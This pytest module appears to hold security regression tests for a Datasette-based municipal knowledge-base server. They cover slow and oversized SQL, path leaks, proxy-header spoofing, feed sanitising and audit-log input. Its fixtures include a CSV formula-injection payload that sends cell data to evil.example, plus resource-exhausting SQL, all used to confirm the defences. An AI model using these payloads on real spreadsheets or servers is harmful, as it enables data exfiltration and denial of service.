"""Hostile input, round three, against a real ``kb serve`` on loopback (hash embedder): the
public SQL page (slow SQL, huge values, the server's path), Datasette's CSV, its own pages
(Content-Security-Policy, ``root``, ``_internal``), the feeds (control characters, writers'
user names), a facilitator's form with an unknown status, and a sign-in name that ends in a
newline. Each test says what the server answered before.
"""

from __future__ import annotations

import asyncio
import concurrent.futures
import contextlib
import csv
import datetime as dt
import io
import json
import os
import sqlite3
import statistics
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET

import httpx
import pytest
from datasette.app import Datasette

from datasette_plugins.database import FollowingDatabase
from kb.app import auth
from kb.app.actions import create_action
from kb.core.config import load

from .helpers import REPO, TOKEN_RE, client_at, open_sql, start_server, stop_server
from .samples import write_kb

PASSWORD = "hemligt lösenord"
AUTHOR = "anna.andersson@malmo.se"  # a writer's user name under single sign-on: personal data
PROXY = "127.0.0.2"  # plays the sign-on proxy (any of 127.0.0.0/8 reaches loopback)
SLOW_SQL = ("with recursive c(x) as (select 1 union all select x+1 from c where x<100000000) "
            "select count(*) from c")

AUTHORED = f"""\
---
id: anna-skrev
title: Laddplatserna i Hyllie kräver kapacitetsbesked
area: mobilitet
date: 2026-04-04
type: lesson
author: {AUTHOR}
---
## Vad hände?
Nätägaren behövde ett kapacitetsbesked innan laddplatserna kunde beställas.
"""
FORMULAS = """\
---
id: formel
title: '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
area: energi
date: 2026-04-05
type: idea
tags: [+cmd, "@SUM(1+1)"]
---
## Vad hände?
Ett kalkylblad körde titeln som en formel.
"""
WORD_BREAK = """\
---
id: radbrytning
title: "Hinder från Word\\vmed radbrytning\\x01"
area: energi
date: 2026-04-06
type: obstacle
---
## Vad hände?
Titeln klistrades in från Word.
"""
ACTION_WORD_BREAK = """\
---
id: word-atgard
title: "Åtgärd\\vfrån Word"
owner: Energi
due: 2026-12-31
status: proposed
lessons: [anna-skrev]
history:
  - {date: 2026-04-01, status: proposed}
---
## Anteckningar
"""


def hashed() -> str:
    return auth.hash_password(PASSWORD, iterations=1000)


@pytest.fixture(scope="module")
def visitor_server(tmp_path_factory):
    """The knowledge base as a municipality would publish it (kb.toml's defaults), with a
    sign-on proxy at 127.0.0.2, a writer and a facilitator, an entry with its author, and the
    hostile entries and action."""
    root = write_kb(tmp_path_factory.mktemp("visitors") / "kb")
    for rel, text in {"mobilitet/anna-skrev.md": AUTHORED, "energi/formel.md": FORMULAS,
                      "energi/radbrytning.md": WORD_BREAK}.items():
        (root / "entries" / rel).write_text(text, encoding="utf-8")
    with (root / "kb.toml").open("a", encoding="utf-8") as handle:
        handle.write(f'\n[auth]\nproxy_header = "X-Remote-User"\ntrusted_proxies = ["{PROXY}"]\n'
                     'roles = { erik = "facilitator" }\n')
    create_action(load(root), title="Kapacitetsbesked före beställning", lessons=["laddplatser"],
                  owner="Gatukontoret", due=dt.date(2099, 1, 1))
    (root / "actions" / "word-atgard.md").write_text(ACTION_WORD_BREAK, encoding="utf-8")
    running = start_server(root, env={"KB_WRITERS": f"anna:{hashed()},erik:{hashed()}"})
    yield running
    log = stop_server(running)
    assert "Traceback" not in log, log[-3000:]


@pytest.fixture(scope="module")
def open_server(tmp_path_factory):
    """kb.toml ``[web] sql = "all"``: every visitor may run SQL of their own."""
    root = write_kb(tmp_path_factory.mktemp("open") / "kb")
    (root / "entries/energi/formel.md").write_text(FORMULAS, encoding="utf-8")
    open_sql(root)
    running = start_server(root)
    yield running
    log = stop_server(running)
    assert "Traceback" not in log, log[-3000:]


@contextlib.contextmanager
def signed_in(url: str, name: str, address: str = "127.0.0.1"):
    """A client signed in with a password as ``name``, from ``address``."""
    with client_at(address) as client:
        token = TOKEN_RE.search(client.get(url + "/-/kb/login").text).group(1)
        response = client.post(url + "/-/kb/login",
                               data={"csrftoken": token, "username": name, "password": PASSWORD})
        assert response.status_code == 302, response.text[:300]
        yield client


# --- 1. SQL of one's own: a setting, its own threads, one at a time, a shorter time limit --------
def test_by_default_visitors_get_the_tables_and_saved_queries_but_no_sql_of_their_own(visitor_server):
    url = visitor_server.url
    refused = httpx.get(url + "/kb.json", params={"sql": "select count(*) from entries"}, timeout=30)
    # before: 200 for anyone, whatever kb.toml said
    assert refused.status_code == 403, refused.text[:300]
    assert "inloggade" in refused.json()["error"] and "sparade frågorna" in refused.json()["error"]
    english = httpx.get(url + "/kb.json", params={"sql": "select 1", "lang": "en"}, timeout=30).json()["error"]
    assert english.startswith("SQL of one's own is open only to people who signed in")
    page = httpx.get(url + "/kb", params={"sql": "select 1"}, timeout=30)
    assert page.status_code == 403 and "Egen SQL är öppen bara för inloggade" in page.text
    where = httpx.get(url + "/kb/entries.json", params={"_where": "1=1"}, timeout=30)
    assert where.status_code == 403
    assert 'id="sql-editor"' not in httpx.get(url + "/kb", timeout=30).text  # no editor offered
    for path in ("/kb/entries.json?_size=2", "/kb/latest_obstacles_per_area.json", "/kb/entries.csv"):
        assert httpx.get(url + path, timeout=30).status_code == 200, path
    with signed_in(url, "anna") as anna:
        mine = anna.get(url + "/kb.json", params={"sql": "select count(*) as n from entries", "_shape": "array"})
        assert mine.status_code == 200 and mine.json()[0]["n"] >= 5


@pytest.mark.slow
def test_one_statement_at_a_time_per_client(open_server):
    def slow():
        started = time.perf_counter()
        with client_at("127.0.0.41", timeout=60) as client:
            status = client.get(open_server.url + "/kb.json", params={"sql": SLOW_SQL}).status_code
        return status, time.perf_counter() - started

    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        first = pool.submit(slow)
        time.sleep(0.3)
        second = pool.submit(slow)
        results = sorted([first.result(), second.result()])
    # before: both ran, each to the 3 s limit, on two of Datasette's three SQL threads
    assert [status for status, _ in results] == [400, 429], results
    assert results[1][1] < results[0][1]  # refused at once, not after the first one


@pytest.mark.slow
def test_one_statement_at_a_time_per_person_behind_the_sign_on_proxy(visitor_server):
    def slow(name: str, wait: float) -> int:
        time.sleep(wait)
        with client_at(PROXY, timeout=60) as client:  # the proxy names no client address
            return client.get(visitor_server.url + "/kb.json", params={"sql": SLOW_SQL},
                              headers={"X-Remote-User": name}).status_code

    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        two_people = sorted(pool.map(slow, ["erik", "anna"], [0, 0.3]))
        one_person = sorted(pool.map(slow, ["erik", "erik"], [0, 0.3]))
    # before: keyed on the proxy's address, the second person was told to wait for the first
    assert two_people == [400, 400] and one_person == [400, 429], (two_people, one_person)


@pytest.mark.slow
def test_past_eight_requests_in_all_the_next_is_told_to_come_back(open_server):
    def slow(k: int) -> int:
        with client_at(f"127.0.0.{80 + k}", timeout=120) as client:
            return client.get(open_server.url + "/kb.json", params={"sql": SLOW_SQL}).status_code

    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        statuses = list(pool.map(slow, range(12)))
    # before: all twelve ran, on Datasette's three threads, three seconds each
    assert statuses.count(503) >= 1 and statuses.count(400) >= 8 and set(statuses) == {400, 503}, statuses


@pytest.mark.slow
def test_slow_sql_is_stopped_at_one_second_whatever_it_asks(open_server):
    started = time.perf_counter()
    response = httpx.get(open_server.url + "/kb.json", params={"sql": SLOW_SQL, "_timelimit": "60000"}, timeout=60)
    elapsed = time.perf_counter() - started
    assert response.status_code == 400 and "tog längre än 1 s och stoppades" in response.json()["error"]
    assert elapsed < 2.7, elapsed  # before: Datasette's 3 s for everything (a busy machine adds a little)


@pytest.mark.slow
def test_a_stopped_statement_is_told_in_the_pages_language_also_as_csv(open_server):
    url = open_server.url
    page = httpx.get(url + "/kb", params={"sql": SLOW_SQL, "lang": "en"}, timeout=60)
    as_csv = httpx.get(url + "/kb.csv", params={"sql": SLOW_SQL}, timeout=60)
    # before: Datasette's English words, naming a setting (3 s) that is not the limit; as CSV a 500
    # and a traceback in the server's log (the fixture looks for one when the server stops)
    assert page.status_code == 400 and "The query took longer than 1 s and was stopped" in page.text
    assert "sql_time_limit_ms" not in page.text
    assert as_csv.status_code == 400 and "Frågan tog längre än 1 s och stoppades" in as_csv.text


def test_what_a_failed_statement_holds_is_freed_on_its_sql_thread(tmp_path):
    """A statement stopped at its time limit leaves its cursor in the traceback's frames.
    Freed on the event loop with the exception, the cursor waited there for its connection,
    busy with the next slow statement, and the whole server stood still (pages of 0.03 s
    took 5 to 13 s while six visitors ran slow SQL)."""
    path = tmp_path / "kb.db"
    sqlite3.connect(path).close()
    db = FollowingDatabase(Datasette([str(path)]), str(path))
    freed_on: list[str] = []

    class Cursor:  # stands for the sqlite3 cursor: freeing it needs its connection
        def __del__(self):
            freed_on.append(threading.current_thread().name)

    def stopped_statement(conn):
        cursor = Cursor()  # noqa: F841 (held by the frame, as Datasette's cursor is)
        raise sqlite3.OperationalError("interrupted")

    async def ask():
        with pytest.raises(sqlite3.OperationalError) as caught:
            await db.execute_fn(stopped_statement)
        return caught  # the exception, its traceback and frames, still alive here

    caught = asyncio.run(ask())
    # before: [] (the cursor lived as long as the exception, and died on the event loop)
    assert len(freed_on) == 1 and freed_on[0] != threading.current_thread().name, freed_on
    assert caught.value.args == ("interrupted",)


@pytest.mark.slow
def test_pages_keep_answering_while_six_visitors_run_slow_sql(open_server):
    url = open_server.url
    stop = threading.Event()
    statuses: list[int] = []

    def visitor(address: str) -> None:
        with client_at(address, timeout=60) as client:
            while not stop.is_set():
                statuses.append(client.get(url + "/kb.json", params={"sql": SLOW_SQL}).status_code)

    def timed(path: str) -> float:
        started = time.perf_counter()
        assert httpx.get(url + path, timeout=120).status_code == 200, path
        return time.perf_counter() - started

    visitors = [threading.Thread(target=visitor, args=(f"127.0.0.{50 + k}",)) for k in range(6)]
    for thread in visitors:
        thread.start()
    try:
        time.sleep(1.5)  # every visitor has a statement running or waiting
        table = statistics.median(timed("/kb/entries.json?_size=1&_nofacet=1") for _ in range(3))
        front = timed("/")
        entries = timed("/kb/entries")
    finally:
        stop.set()
        for thread in visitors:
            thread.join(timeout=120)
    # before (3 s limit, Datasette's three threads held): the front page 7 s, the entries table
    # over 30 s; bounds for a busy test machine (bench/slow_sql.py measures on a quiet one)
    assert table < 3.0 and front < 5.0 and entries < 15.0, (table, front, entries)
    assert statuses and set(statuses) == {400}, statuses  # each stopped at its limit, none refused


# --- 2. values and results of a bounded size --------------------------------------------------------
@pytest.mark.slow
def test_huge_values_are_refused_at_once_and_memory_stays_put(open_server):
    before = open_server.rss_kb()
    sql = "select length(printf('%.*c', 400000000, 'x')) as n"
    with concurrent.futures.ThreadPoolExecutor(3) as pool:
        answers = list(pool.map(lambda k: client_at(f"127.0.0.{60 + k}", timeout=60).get(
            open_server.url + "/kb.json", params={"sql": sql}), range(3)))
    # before: 200 with n = 400000000, and the server went from 241 MB to 1.4 GB. Now SQLite
    # builds no value over 2 MB (this one it abandons, which takes longer than the time limit)
    assert [a.status_code for a in answers] == [400] * 3
    assert open_server.rss_kb() - before < 100_000
    blob = httpx.get(open_server.url + "/kb.json", params={"sql": "select hex(randomblob(40000000))"}, timeout=60)
    assert blob.status_code == 400 and blob.json()["error"] == "string or blob too big"  # before: 80 MB of JSON
    as_csv = httpx.get(open_server.url + "/kb.csv", params={"sql": "select hex(randomblob(40000000))"}, timeout=60)
    assert len(as_csv.content) < 1000  # before: 80 MB (Datasette's CSV shows no error: an empty answer)
    assert open_server.rss_kb() - before < 100_000


def test_a_statement_returns_at_most_ten_megabytes(open_server):
    sql = ("with recursive n(i) as (select 1 union all select i + 1 from n where i < 200) "
           "select i, printf('%.*c', 200000, 'x') as v from n")
    response = httpx.get(open_server.url + "/kb.json", params={"sql": sql}, timeout=60)
    # before: 200 and 40 MB of JSON (a thousand rows of such values: gigabytes)
    assert response.status_code == 400 and "Svaret är större än 10 MB" in response.json()["error"]
    assert len(response.content) < 10_000
    english = httpx.get(open_server.url + "/kb", params={"sql": sql, "lang": "en"}, timeout=60)
    assert english.status_code == 400 and "The answer is larger than 10 MB" in english.text
    assert "Svaret" not in english.text  # in the page's language, not the server's


# --- 8. the server's file paths -----------------------------------------------------------------------
def test_pragma_database_list_shows_no_path(open_server):
    rows = httpx.get(open_server.url + "/kb.json", params={"sql": "select * from pragma_database_list",
                                                          "_shape": "array"}, timeout=30).json()
    # before: file = the absolute path of kb.db
    assert rows == [{"seq": 0, "name": "main", "file": None}]
    assert str(open_server.root) not in httpx.get(open_server.url + "/kb.json", params={
        "sql": "select file from pragma_database_list()"}, timeout=30).text


# --- 6. Datasette's CSV: no formulas --------------------------------------------------------------------
def test_datasette_csv_cells_are_never_formulas(visitor_server, open_server):
    table = httpx.get(visitor_server.url + "/kb/entries.csv", params={"_stream": "1", "_col": ["title", "tags"]},
                      timeout=30)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(table.text))}
    # before: the title and tags exactly as written, which a spreadsheet runs
    assert rows["formel"]["title"] == "'" + '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
    assert rows["formel"]["tags"] == '["+cmd", "@SUM(1+1)"]'  # a JSON list: no formula to begin with
    query = httpx.get(open_server.url + "/kb.csv", params={
        "sql": "select title, '+cmd' as a, '@SUM(1+1)' as b, '-12.5' as n, char(9) || 'x' as t "
               "from entries where id = 'formel'"}, timeout=30)
    [row] = list(csv.DictReader(io.StringIO(query.text)))
    assert row == {"title": "'" + '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")', "a": "'+cmd",
                   "b": "'@SUM(1+1)", "n": "-12.5", "t": "'\tx"}


# --- 7. and 12. Datasette's own pages: root, _internal, a Content-Security-Policy --------------------------
def test_root_is_no_one_and_the_internal_pages_stay_shut(visitor_server):
    url = visitor_server.url
    with client_at(PROXY) as proxy:
        actor = proxy.get(url + "/-/actor.json", headers={"X-Remote-User": "root"}).json()
        permissions = proxy.get(url + "/-/permissions", headers={"X-Remote-User": "root"})
        internal = proxy.get(url + "/_internal.json", headers={"X-Remote-User": "root"})
        staff = proxy.get(url + "/_internal", headers={"X-Remote-User": "erik"})
        erik = proxy.get(url + "/-/actor.json", headers={"X-Remote-User": "erik"}).json()
    # before: root was signed in, and Datasette gave it its permission log and _internal (file paths)
    assert actor == {"actor": None} and erik["actor"]["id"] == "erik"
    assert permissions.status_code == 404 and internal.status_code == 404 and staff.status_code == 404
    assert str(visitor_server.root) not in internal.text + staff.text


def test_datasette_pages_have_a_content_security_policy(visitor_server):
    for path in ("/kb", "/kb/entries", "/kb/entries/laddplatser", "/kb/latest_obstacles_per_area", "/-/databases",
                 "/kb/no-such-table"):
        response = httpx.get(visitor_server.url + path, timeout=30)
        csp = response.headers.get("content-security-policy", "")
        # before: none on Datasette's own pages
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp, (path, csp)
        assert "'unsafe-inline'" not in csp.split("script-src", 1)[1], (path, csp)
    ours = httpx.get(visitor_server.url + "/-/kb/search?q=cykel", timeout=30).headers["content-security-policy"]
    assert "unsafe-inline" not in ours  # our own pages keep their stricter policy


# --- 5. and 12. the feeds: well-formed XML, no writers' user names -----------------------------------------
def test_feeds_are_well_formed_and_name_no_writer(visitor_server):
    for path in ("/-/kb/feed.atom", "/-/kb/feed.atom?area=energi", "/-/kb/actions.atom"):
        response = httpx.get(visitor_server.url + path, timeout=30)
        assert response.status_code == 200
        ET.fromstring(response.content)  # before: "not well-formed (invalid token)", every feed
        assert AUTHOR not in response.text, path  # before: <author><name>anna.andersson@malmo.se
    feed = httpx.get(visitor_server.url + "/-/kb/feed.atom", timeout=30).text
    assert "Laddplatserna i Hyllie kräver kapacitetsbesked" in feed and "radbrytning" not in feed
    assert "Word" not in httpx.get(visitor_server.url + "/-/kb/actions.atom", timeout=30).text


def test_writers_user_names_are_not_published(visitor_server):
    url = visitor_server.url
    for path in ("/-/kb/entry/anna-skrev", "/kb/entries/anna-skrev.json", "/kb/entries.json?_shape=array",
                 "/kb/entries/anna-skrev"):
        assert AUTHOR not in httpx.get(url + path, timeout=30).text, path
    with signed_in(url, "anna", "127.0.0.70") as anna:
        rows = anna.get(url + "/kb.json", params={"sql": "select author, extra from entries where id = 'anna-skrev'",
                                                  "_shape": "array"}).json()
    assert rows == [{"author": None, "extra": "{}"}]  # before: extra = {"author": "anna.andersson@malmo.se"}


# --- 11. an unknown status -------------------------------------------------------------------------------
def test_an_unknown_status_is_a_400_with_a_message(visitor_server):
    url = visitor_server.url
    with signed_in(url, "erik", "127.0.0.71") as erik:
        page = erik.get(url + "/-/kb/actions/kapacitetsbesked-fore-bestallning")
        token = TOKEN_RE.search(page.text).group(1)
        response = erik.post(url + "/-/kb/actions/kapacitetsbesked-fore-bestallning/status",
                             data={"csrftoken": token, "status": "bogus"})
    # before: 500 and a KeyError traceback in the log
    assert response.status_code == 400 and "Okänd status" in response.text and "bogus" in response.text


# --- 10. a sign-in name with a final newline ----------------------------------------------------------------
def test_a_name_with_a_final_newline_is_no_user_name_in_the_audit_log(visitor_server):
    name = "a" * 63 + "\nb"  # the form keeps 64 characters: the last one is the newline
    with client_at("127.0.0.72") as client:
        for attempt in range(5):
            token = TOKEN_RE.search(client.get(visitor_server.url + "/-/kb/login").text).group(1)
            response = client.post(visitor_server.url + "/-/kb/login",
                                   data={"csrftoken": token, "username": name, "password": "fel"})
            while response.status_code == 429:  # the throttle: wait as it says
                time.sleep(float(response.headers["retry-after"]))
                token = TOKEN_RE.search(client.get(visitor_server.url + "/-/kb/login").text).group(1)
                response = client.post(visitor_server.url + "/-/kb/login",
                                       data={"csrftoken": token, "username": name, "password": "fel"})
            assert response.status_code == 403, attempt
    events = [json.loads(line) for line in
              (visitor_server.root / ".kb/audit.jsonl").read_text(encoding="utf-8").splitlines()]
    burst = [e for e in events if e["action"] == "signin.failures" and e.get("address") == "127.0.0.72"]
    assert burst and burst[0]["target"] == "(not a user name)"  # before: the name, newline and all
    listed = subprocess.run([sys.executable, "-c", "from kb.cli import cli; cli()", "audit", "--root",
                             str(visitor_server.root), "--action", "signin"], cwd=REPO, capture_output=True,
                            text=True, env={**os.environ, "KB_MODEL": "hash"}, timeout=60)
    assert listed.returncode == 0 and len(listed.stdout.splitlines()) == len(
        [e for e in events if e["action"] == "signin.failures"])
